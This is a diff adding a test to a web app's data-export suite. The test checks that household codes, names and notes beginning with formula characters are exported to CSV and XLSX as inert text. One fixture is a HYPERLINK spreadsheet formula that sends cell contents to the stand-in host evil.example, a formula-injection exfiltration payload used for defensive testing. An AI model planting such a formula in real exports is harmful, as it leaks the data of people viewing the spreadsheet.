@@ -231,3 +231,29 @@ def test_the_form_page_is_limited_to_the_scope_and_linked_from_the_dashboard(cli
     assert 'name="personal"' in page and 'value="2026-01-01"' in page
     page = client.get(f"/exports?area={world.village3.id}").get_data(as_text=True)
     assert "Thôn Phú Mỹ" not in page  # out of scope: not offered
+
+
+FORMULA_CODE = "=1+1"
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+
+
+def test_a_household_code_or_name_that_is_a_formula_is_exported_as_text(client, world, auth):
+    """Issue 17.1: the code reaches every leader, officer and province viewer in the non-personal export."""
+    from tests.factories import household
+    h = household(world.users["member"], world.village1, FORMULA_CODE, head_name=FORMULA_NAME, consent=True)
+    _visit(world, "h1", outcome="revisit", note="@SUM(1+1)")
+    log_visit(world.users["member"], h, VisitData(outcome="not_home", visited_at=utcnow(), note="-2+3"))
+    db.session.commit()
+    auth.login(OFFICER)
+    rows = csv_rows(get(client, world.commune, personal="y"))
+    cells = {c for r in rows for c in r}
+    assert {"'" + FORMULA_CODE, "'" + FORMULA_NAME, "'-2+3", "'@SUM(1+1)"} <= cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    r = client.get(URL, query_string={"area": world.commune.id, "format": "xlsx", "personal": "y"})
+    assert r.status_code == 200
+    book = load_workbook(io.BytesIO(r.data))
+    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    assert {FORMULA_CODE, FORMULA_NAME, "-2+3", "@SUM(1+1)"} <= {c.value for c in texts}
+    assert all(c.quotePrefix for c in texts if c.value[:1] in ("=", "+", "-", "@", "\t", "\r"))
